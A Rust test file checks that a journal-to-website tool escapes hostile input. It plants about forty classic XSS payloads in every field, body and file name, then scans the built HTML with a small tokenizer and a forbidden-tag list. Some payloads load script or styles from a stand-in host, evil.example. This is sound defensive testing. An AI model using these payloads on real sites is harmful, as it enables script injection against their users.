//! Hostile input: the classic XSS payloads through every frontmatter field,
//! every body and `dossier.toml`, then the site and every packet variant
//! scanned, HTML-aware, for anything a browser would run.

use std::path::Path;

use crate::support::{TODAY, TestRepo, read_tree, run_in};

/// The payloads, each tried in every field of [`FIELDS`].
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;vascript&#x3A;alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" onmouseover=\"alert(1)",
    "<details open ontoggle=alert(1)>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "</textarea></title><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--><script>alert(1)</script>-->",
];

/// Every place a payload goes, in each journal.
const FIELDS: &[&str] = &[
    "dossier.toml owner",
    "dossier.toml role",
    "dossier.toml target_role",
    "dossier.toml title",
    "dossier.toml period name",
    "dossier.toml away reason",
    "goal title (YAML)",
    "goal impact",
    "goal stakeholders (plain)",
    "goal stakeholders (in a role)",
    "goal tags",
    "goal body",
    "goal title (TOML)",
    "goal stakeholders (TOML)",
    "goal body (TOML)",
    "update title",
    "update to (plain)",
    "update to (in a role)",
    "update tags",
    "update body",
    "meeting title",
    "meeting with: name",
    "meeting with: role",
    "meeting with: org",
    "meeting with (plain)",
    "meeting with (in a role)",
    "meeting org",
    "meeting problems",
    "meeting tags",
    "meeting body",
    "meeting file name (slug)",
];

/// `text` as a YAML double-quoted (or TOML basic) string: JSON's escapes
/// are valid in both.
fn quoted(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

fn body(payload: &str) -> String {
    format!(
        "Intro.\n\n{payload}\n\nInline {payload} text.\n\n- item {payload}\n\n| a |\n|---|\n| {} |\n",
        payload.replace('\n', " ").replace('|', "\\|")
    )
}

/// A journal with `payload` in every field of [`FIELDS`], committed.
fn hostile_journal(payload: &str) -> TestRepo {
    let repo = TestRepo::new();
    let j = &repo.journal;
    let p = quoted(payload);
    j.file(
        "dossier.toml",
        &format!(
            "owner = {p}\nrole = {p}\ntarget_role = {p}\ntitle = {p}\n\
             away = [{{ from = 2026-05-01, to = 2026-05-03, reason = {p} }}]\n\
             [periods]\n{p} = {{ from = 2026-01-01, to = 2026-12-31 }}\n"
        ),
    );
    let in_role = quoted(&format!("Ann Lee ({payload})"));
    j.file(
        "goals/hostile.md",
        &format!(
            "---\ntitle: {p}\nstatus: done\nstarted: 2026-01-05\nfinished: 2026-06-01\n\
             leverage: [execution]\nimpact: {p}\nstakeholders: [{p}, {in_role}]\ntags: [{p}, plain]\n---\n{}",
            body(payload)
        ),
    );
    j.file(
        "goals/second.md",
        &format!(
            "+++\ntitle = {p}\nstatus = \"active\"\nstarted = 2026-02-01\nleverage = [\"strategic\"]\n\
             stakeholders = [{p}]\n+++\n{}",
            body(payload)
        ),
    );
    j.file(
        "updates/2026-02-13.md",
        &format!(
            "---\ntitle: {p}\ndate: 2026-02-13\nperiod: \"2026-02-01..2026-02-13\"\nto: [{p}, {in_role}]\n\
             goals: [hostile, second]\ntags: [{p}]\n---\n{}",
            body(payload)
        ),
    );
    j.file(
        "meetings/2026-02-10-hostile.md",
        &format!(
            "---\ntitle: {p}\ndate: 2026-02-10\nwith: [{{ name: {p}, role: {p}, org: {p} }}, {p}, {in_role}]\n\
             type: senior-leader\norg: {p}\nproblems: [{p}]\ngoals: [hostile]\ntags: [{p}]\n---\n{}",
            body(payload)
        ),
    );
    let slug: String = payload
        .chars()
        .map(|c| if c == '/' || c.is_control() { '_' } else { c })
        .collect();
    j.file(
        &format!("meetings/2026-03-03-{slug}.md"),
        "---\ndate: 2026-03-03\nwith: [Bo Chen]\n---\nNotes.\n",
    );
    repo.commit("2026-06-02", "notes");
    repo
}

/// Builds the site and every packet variant of the journal at `journal`
/// into `out`; returns the files written, with their bytes.
pub fn build_everything(
    journal: &Path,
    out: &Path,
    period: &str,
    extra_build: &[&str],
) -> Vec<(String, Vec<u8>)> {
    let o = |name: &str| out.join(name).to_string_lossy().into_owned();
    let runs: Vec<Vec<String>> = vec![
        vec!["build".into(), ".".into(), "-o".into(), o("site")],
        vec!["packet".into(), ".".into(), "-o".into(), o("packet.html")],
        vec![
            "packet".into(),
            ".".into(),
            "--format".into(),
            "json".into(),
            "-o".into(),
            o("packet.json"),
        ],
        vec![
            "packet".into(),
            ".".into(),
            "--period".into(),
            period.into(),
            "-o".into(),
            o("period.html"),
        ],
        vec![
            "packet".into(),
            ".".into(),
            "--period".into(),
            period.into(),
            "--format".into(),
            "json".into(),
            "-o".into(),
            o("period.json"),
        ],
        vec![
            "packet".into(),
            ".".into(),
            "--from".into(),
            "2026-02-01".into(),
            "--to".into(),
            "2026-03-31".into(),
            "-o".into(),
            o("range.html"),
        ],
        vec![
            "packet".into(),
            ".".into(),
            "--from".into(),
            "2026-02-01".into(),
            "--to".into(),
            "2026-03-31".into(),
            "--format".into(),
            "json".into(),
            "-o".into(),
            o("range.json"),
        ],
    ];
    for (i, run) in runs.iter().enumerate() {
        let mut args: Vec<&str> = run.iter().map(String::as_str).collect();
        args.extend(["--today", TODAY]);
        if i == 0 {
            args.extend_from_slice(extra_build);
        }
        let result = run_in(journal, &args);
        assert_eq!(result.code, 0, "{args:?} failed:\n{}", result.stderr);
    }
    read_tree(out)
}

/// Decodes the character references a browser decodes in an attribute.
fn decode_entities(value: &str) -> String {
    let mut out = String::new();
    let mut rest = value;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at + 1..];
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '#'))
            .unwrap_or(rest.len());
        let name = &rest[..end];
        let decoded = if let Some(hex) = name.strip_prefix("#x").or_else(|| name.strip_prefix("#X"))
        {
            u32::from_str_radix(hex, 16).ok().and_then(char::from_u32)
        } else if let Some(dec) = name.strip_prefix('#') {
            dec.parse().ok().and_then(char::from_u32)
        } else {
            match name.to_ascii_lowercase().as_str() {
                "tab" => Some('\t'),
                "newline" => Some('\n'),
                "colon" => Some(':'),
                "amp" => Some('&'),
                "lt" => Some('<'),
                "gt" => Some('>'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                "sol" => Some('/'),
                "lpar" => Some('('),
                "rpar" => Some(')'),
                _ => None,
            }
        };
        match decoded {
            Some(c) => {
                out.push(c);
                rest = rest[end..].strip_prefix(';').unwrap_or(&rest[end..]);
            }
            None => out.push('&'),
        }
    }
    out.push_str(rest);
    out
}

/// A URL as a browser reads its scheme: trimmed, tabs and newlines dropped,
/// lowercase.
fn normalized_url(value: &str) -> String {
    decode_entities(value)
        .trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect::<String>()
        .to_ascii_lowercase()
}

/// Tags a page of dossier's must never hold, whatever a note says.
const FORBIDDEN_TAGS: &[&str] = &[
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "math", "base", "form",
    "noscript", "textarea", "button", "portal",
];

/// What a browser could run in `text` (an HTML page, or anything else read
/// as one): forbidden tags, event handlers, script or `data:` URLs, refresh
/// tags, hostile style. A small tokenizer, so that escaped text
/// (`&lt;script&gt;`) is not counted.
pub fn scan_html(text: &str) -> Vec<String> {
    let bytes = text.as_bytes();
    let mut findings = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'<' {
            i += 1;
            continue;
        }
        if text[i..].starts_with("<!--") {
            i = text[i + 4..]
                .find("-->")
                .map_or(bytes.len(), |e| i + 4 + e + 3);
            continue;
        }
        let start = i;
        i += 1;
        if i < bytes.len() && bytes[i] == b'/' {
            i += 1;
        }
        if i >= bytes.len() || !bytes[i].is_ascii_alphabetic() {
            continue;
        }
        let name_start = i;
        while i < bytes.len()
            && !(bytes[i].is_ascii_whitespace() || bytes[i] == b'>' || bytes[i] == b'/')
        {
            i += 1;
        }
        let tag = text[name_start..i].to_ascii_lowercase();
        let closing = bytes[start + 1] == b'/';
        let mut attrs: Vec<(String, String)> = Vec::new();
        while i < bytes.len() && bytes[i] != b'>' {
            if bytes[i].is_ascii_whitespace() || bytes[i] == b'/' {
                i += 1;
                continue;
            }
            let a = i;
            while i < bytes.len()
                && !(bytes[i].is_ascii_whitespace() || matches!(bytes[i], b'=' | b'>' | b'/'))
            {
                i += 1;
            }
            let name = text[a..i].to_ascii_lowercase();
            let mut value = String::new();
            while i < bytes.len() && bytes[i].is_ascii_whitespace() {
                i += 1;
            }
            if i < bytes.len() && bytes[i] == b'=' {
                i += 1;
                while i < bytes.len() && bytes[i].is_ascii_whitespace() {
                    i += 1;
                }
                if i < bytes.len() && (bytes[i] == b'"' || bytes[i] == b'\'') {
                    let quote = bytes[i];
                    let v = i + 1;
                    i = v + bytes[v..]
                        .iter()
                        .position(|b| *b == quote)
                        .unwrap_or(bytes.len() - v);
                    value = text[v..i].to_string();
                    i += 1;
                } else {
                    let v = i;
                    while i < bytes.len() && !(bytes[i].is_ascii_whitespace() || bytes[i] == b'>') {
                        i += 1;
                    }
                    value = text[v..i].to_string();
                }
            }
            attrs.push((name, value));
        }
        i += 1;
        let shown = &text[start..i.min(bytes.len())];
        if closing {
            continue;
        }
        if FORBIDDEN_TAGS.contains(&tag.as_str()) {
            findings.push(format!("<{tag}> tag: {shown}"));
        }
        for (name, value) in &attrs {
            let url = normalized_url(value);
            if name.starts_with("on") {
                findings.push(format!("event handler `{name}`: {shown}"));
            }
            if matches!(
                name.as_str(),
                "srcdoc" | "formaction" | "http-equiv" | "xlink:href"
            ) {
                findings.push(format!("attribute `{name}`: {shown}"));
            }
            if url.contains("javascript:") || url.contains("vbscript:") {
                findings.push(format!("script URL in `{name}`: {shown}"));
            }
            let raster = [
                "data:image/png",
                "data:image/jpeg",
                "data:image/gif",
                "data:image/webp",
            ]
            .iter()
            .any(|p| url.starts_with(p));
            if url.starts_with("data:") && !(tag == "img" && name == "src" && raster) {
                findings.push(format!("data: URL in `{name}`: {shown}"));
            }
            if (url.starts_with("//") || url.starts_with("http")) && url.contains("evil.example") {
                findings.push(format!("outside URL in `{name}`: {shown}"));
            }
        }
        // Raw-text elements: what a style element holds is not escaped.
        if tag == "style" {
            let end = text[i.min(bytes.len())..]
                .to_ascii_lowercase()
                .find("</style")
                .map_or(bytes.len(), |e| i + e);
            let css = text[i.min(bytes.len())..end].to_ascii_lowercase();
            if css.contains("evil.example") || css.contains("javascript") || css.contains("@import")
            {
                findings.push(format!("hostile style element in {}", &text[start..end]));
            }
            i = end;
        }
    }
    findings
}

/// Every file of `files` read as HTML: the findings, prefixed with the path.
fn scan_files(files: &[(String, Vec<u8>)]) -> Vec<String> {
    files
        .iter()
        .flat_map(|(path, bytes)| {
            scan_html(&String::from_utf8_lossy(bytes))
                .into_iter()
                .map(move |f| format!("{path}: {f}"))
        })
        .collect()
}

#[test]
fn the_scanner_finds_what_it_looks_for_and_not_escaped_text() {
    assert!(
        scan_html("<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript: onerror=x</p>").is_empty()
    );
    assert!(scan_html("<a href=\"https://example.com\" title=\"javascript\">x</a>").is_empty());
    assert!(scan_html("<img src=\"data:image/png;base64,AAA=\">").is_empty());
    for bad in [
        "<SCRIPT>x</SCRIPT>",
        "<p><svg><script>x</script></svg>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"java&#9;script:x\">x</a>",
        "<a href='JAVASCRIPT:x'>x</a>",
        "<a href=\"&#x64;ata:text/html,x\">x</a>",
        "<iframe>",
        "<meta http-equiv=refresh content=0>",
        "<style>@import 'https://evil.example/x.css';</style>",
    ] {
        assert!(!scan_html(bad).is_empty(), "{bad}");
    }
}

#[test]
fn no_payload_survives_in_any_field_or_output() {
    let mut files_scanned = 0;
    for payload in PAYLOADS {
        let repo = hostile_journal(payload);
        let out = tempfile::tempdir().unwrap();
        let files = build_everything(repo.journal.path(), out.path(), payload, &[]);
        assert!(
            files.iter().any(|(p, _)| p == "site/goals/hostile.html"),
            "the site was built"
        );
        let findings = scan_files(&files);
        assert!(
            findings.is_empty(),
            "payload {payload:?} survived:\n{}",
            findings.join("\n")
        );
        files_scanned += files.len();
    }
    eprintln!(
        "{} payloads x {} fields = {} tries; {files_scanned} output files scanned",
        PAYLOADS.len(),
        FIELDS.len(),
        PAYLOADS.len() * FIELDS.len()
    );
}

#[test]
fn escaped_payloads_still_read_as_text() {
    let repo = hostile_journal("<script>alert(1)</script>");
    let out = tempfile::tempdir().unwrap();
    build_everything(
        repo.journal.path(),
        out.path(),
        "<script>alert(1)</script>",
        &[],
    );
    let goal = std::fs::read_to_string(out.path().join("site/goals/hostile.html")).unwrap();
    assert!(
        goal.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{goal}"
    );
}

#[test]
fn allow_raw_html_keeps_scripts_in_bodies() {
    let repo = hostile_journal("<script>alert(1)</script>");
    let out = tempfile::tempdir().unwrap();
    let files = build_everything(
        repo.journal.path(),
        out.path(),
        "<script>alert(1)</script>",
        &["--allow-raw-html"],
    );
    let findings = scan_files(&files);
    assert!(
        findings
            .iter()
            .any(|f| f.starts_with("site/goals/hostile.html: <script> tag")),
        "{findings:#?}"
    );
    // Only in the site's bodies: never in a packet.
    assert!(
        findings.iter().all(|f| f.starts_with("site/")),
        "{findings:#?}"
    );

    // The same from dossier.toml.
    let repo = hostile_journal("<img src=x onerror=alert(1)>");
    let toml = std::fs::read_to_string(repo.journal.path().join("dossier.toml")).unwrap();
    repo.journal
        .file("dossier.toml", &format!("allow_raw_html = true\n{toml}"));
    let out = tempfile::tempdir().unwrap();
    let files = build_everything(
        repo.journal.path(),
        out.path(),
        "<img src=x onerror=alert(1)>",
        &[],
    );
    let findings = scan_files(&files);
    assert!(
        findings
            .iter()
            .any(|f| f.contains("event handler `onerror`")),
        "{findings:#?}"
    );
}
